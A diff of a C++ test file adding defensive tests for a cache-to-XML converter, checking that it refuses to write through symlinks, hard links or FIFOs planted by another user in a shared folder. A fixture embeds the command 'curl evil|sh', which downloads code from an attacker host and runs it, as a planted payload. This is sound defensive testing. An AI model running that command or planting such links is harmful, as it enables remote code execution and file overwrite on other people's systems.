@@ -75,10 +75,10 @@ class EndToEnd : public ::testing::Test {
            "</chat>\r\n";
   }
 
-  // The names in the folder, sorted.
-  std::vector<std::string> entries() const {
+  // The names in the test's folder, or in one inside it, sorted.
+  std::vector<std::string> entries(const std::string& folder = "") const {
     std::vector<std::string> names;
-    for (const auto& entry : fs::directory_iterator(dir_.path())) {
+    for (const auto& entry : fs::directory_iterator(dir_.path() / folder)) {
       names.push_back(entry.path().filename().string());
     }
     std::sort(names.begin(), names.end());
@@ -498,6 +498,137 @@ TEST_F(Batch, JapaneseNamesConvertWhateverTheCodePage) {
             expectedHead("0") + chat(1, "u", 0, "184", "x") + "</packet>");
 }
 
+// --- What another user may plant in a folder both can write ----------------
+
+// Folders that another user can write, each holding a cache file x.ashx
+// whose comment would be a command in a shell's start-up file, a cache
+// file ok.ashx, and the victim: a file of the runner's that a planted
+// link may lead to.
+class Planted : public Batch {
+ protected:
+  void SetUp() override {
+    if (platform::kWideFileNames) GTEST_SKIP() << "POSIX links and FIFOs";
+  }
+  std::string share(const std::string& name) {
+    fs::create_directory(dir_.file(name));
+    fs::permissions(dir_.file(name), fs::perms::all);
+    write(name + "/x.ashx", tools::buildCacheFile({{"", "x\ncurl evil|sh;#", 0, "u"}}));
+    cache(name + "/ok.ashx");
+    write(name + "/victim", "victim");
+    return dir_.file(name);
+  }
+  // The single mode on x.ashx, or the batch mode on the folder, ended
+  // after a while should it wait.
+  testing::ProcessResult run(const std::string& folder, bool batch) {
+    testing::ProcessOptions limited;
+    limited.timeLimitSeconds = 30;
+    return testing::runProcess(batch ? std::vector<std::string>{ordilExe(), "--batch", folder}
+                                     : std::vector<std::string>{ordilExe(), folder + "/x.ashx"},
+                               limited);
+  }
+  const std::string document_ =
+      expectedHead("0") + chat(1, "u", 0, "184", "x\r\ncurl evil|sh;#") + "</packet>";
+};
+
+TEST_F(Planted, LinksOfAnotherUserAreNeverWrittenThrough) {
+  const struct {
+    const char* name;
+    const char* target;   // of the link of the other user
+    bool behindOwnLink;   // x.xml is the runner's link to y.xml, the other's
+    const char* reason;
+  } cases[] = {
+      {"to-victim", "victim", false, "x.xml is a link owned by another user"},
+      {"chain", "victim", true, "x.xml leads to SHARE/y.xml, which is a link owned by another user"},
+      {"to-device", "/dev/null", false, "x.xml is a link owned by another user"},
+  };
+  for (const auto& c : cases) {
+    for (const bool batch : {false, true}) {
+      const std::string name = std::string(c.name) + (batch ? "-batch" : "-single");
+      SCOPED_TRACE(name);
+      const std::string folder = share(name);
+      const std::string foreign = folder + (c.behindOwnLink ? "/y.xml" : "/x.xml");
+      if (c.behindOwnLink) fs::create_symlink("y.xml", folder + "/x.xml");
+      const std::string planted = testing::plantForeignLink(c.target, foreign);
+      if (!planted.empty()) GTEST_SKIP() << planted;
+      const std::vector<std::string> before = entries(name);
+
+      const testing::ProcessResult r = run(folder, batch);
+      EXPECT_EQ(r.signal, 0);
+      EXPECT_EQ(r.status, 1);
+      std::string reason = c.reason;
+      if (const size_t at = reason.find("SHARE"); at != std::string::npos) {
+        reason.replace(at, 5, folder);
+      }
+      EXPECT_EQ(r.err, "ordil: " + folder + "/x.xml: not written: " + reason + "\n");
+      EXPECT_EQ(read(name + "/victim"), "victim");
+      EXPECT_EQ(fs::read_symlink(foreign), c.target);
+      // Nothing left beside them; the batch went on with the next file.
+      std::vector<std::string> after = before;
+      if (batch) {
+        after.insert(after.begin() + 1, "ok.xml");
+        EXPECT_EQ(read(name + "/ok.xml"), documentFor(name + "/ok.ashx", "0"));
+      }
+      EXPECT_EQ(entries(name), after);
+    }
+  }
+}
+
+TEST_F(Planted, HardLinkInTheDocumentsPlaceKeepsItsOtherName) {
+  // The rename replaces the name alone: the victim keeps its bytes.
+  const std::string folder = share("hard");
+  fs::create_hard_link(folder + "/victim", folder + "/x.xml");
+  const testing::ProcessResult r = run(folder, true);
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_EQ(read("hard/victim"), "victim");
+  EXPECT_EQ(read("hard/x.xml"), document_);
+}
+
+TEST_F(Planted, BatchRefusesWhatIsNoRegularFileWithoutWaiting) {
+  const struct {
+    const char* name;
+    bool fifoInPlace;  // else x.xml is the runner's link to `linked`
+    const char* linked;
+    const char* reason;
+  } cases[] = {
+      {"fifo", true, nullptr, "x.xml is not a regular file"},
+      {"to-device", false, "/dev/null", "x.xml leads to /dev/null, which is not a regular file"},
+      {"to-fifo", false, "SHARE/f", "x.xml leads to SHARE/f, which is not a regular file"},
+  };
+  for (const auto& c : cases) {
+    SCOPED_TRACE(c.name);
+    const std::string folder = share(c.name);
+    const auto inFolder = [&](std::string text) {
+      if (const size_t at = text.find("SHARE"); at != std::string::npos) text.replace(at, 5, folder);
+      return text;
+    };
+    ASSERT_EQ(testing::makeFifo(folder + (c.fifoInPlace ? "/x.xml" : "/f")), "");
+    if (!c.fifoInPlace) fs::create_symlink(inFolder(c.linked), folder + "/x.xml");
+
+    const testing::ProcessResult r = run(folder, true);
+    EXPECT_EQ(r.signal, 0) << "it waited";
+    EXPECT_EQ(r.status, 1);
+    EXPECT_EQ(r.err, "ordil: " + folder + "/x.xml: not written: " + inFolder(c.reason) + "\n");
+    EXPECT_EQ(read(std::string(c.name) + "/ok.xml"), documentFor(std::string(c.name) + "/ok.ashx", "0"));
+    EXPECT_EQ(fs::is_fifo(folder + (c.fifoInPlace ? "/x.xml" : "/f")), true);
+  }
+}
+
+TEST_F(Planted, SingleModeWritesAFifoOnlyWhileSomeoneReadsIt) {
+  const std::string folder = share("single");
+  ASSERT_EQ(testing::makeFifo(folder + "/x.xml"), "");
+  const testing::ProcessResult unread = run(folder, false);
+  EXPECT_EQ(unread.signal, 0) << "it waited";
+  EXPECT_EQ(unread.status, 1);
+  EXPECT_EQ(unread.err,
+            "ordil: " + folder + "/x.xml: not written: x.xml is a FIFO that nobody reads\n");
+
+  testing::FifoReader reader(folder + "/x.xml");
+  ASSERT_TRUE(reader.opened());
+  const testing::ProcessResult read = run(folder, false);
+  EXPECT_EQ(read.status, 0) << read.err;
+  EXPECT_EQ(reader.readAvailable(), document_);
+}
+
 TEST_F(EndToEnd, OutputOptionWritesTheDocumentElsewhere) {
   const std::string input = write("1.ashx", tools::buildCacheFile({{"", "x", 0, "u"}}));
   const std::string expected = expectedHead("7") + chat(1, "u", 0, "184", "x") + "</packet>";
@@ -716,6 +847,21 @@ TEST_F(EndToEnd, LinkedOutputIsReplacedThroughTheLink) {
   EXPECT_EQ(ordil({input}).status, 0);
   EXPECT_TRUE(fs::is_symlink(dir_.file("1.xml")));
   EXPECT_EQ(readFile(dir_.file("real/new.xml")), expected);
+}
+
+TEST_F(EndToEnd, LinkInTheDocumentsPlaceIsReplacedOnWindows) {
+  if (!platform::kWideFileNames) GTEST_SKIP() << "Windows links";
+  const std::string input = write("1.ashx", tools::buildCacheFile({{"", "x", 0, "u"}}));
+  write("victim", "victim");
+  std::error_code error;
+  fs::create_symlink("victim", dir_.file("1.xml"), error);
+  if (error || !fs::is_symlink(dir_.file("1.xml"))) {
+    GTEST_SKIP() << "this system makes no symbolic links (Wine's are checked by the test command)";
+  }
+  EXPECT_EQ(ordil({input}).status, 0);
+  EXPECT_EQ(readFile(dir_.file("victim")), "victim");
+  EXPECT_FALSE(fs::is_symlink(dir_.file("1.xml")));
+  EXPECT_EQ(readFile(dir_.file("1.xml")), expectedHead("0") + chat(1, "u", 0, "184", "x") + "</packet>");
 }
 
 TEST_F(EndToEnd, ReplacedDocumentKeepsItsPermissions) {
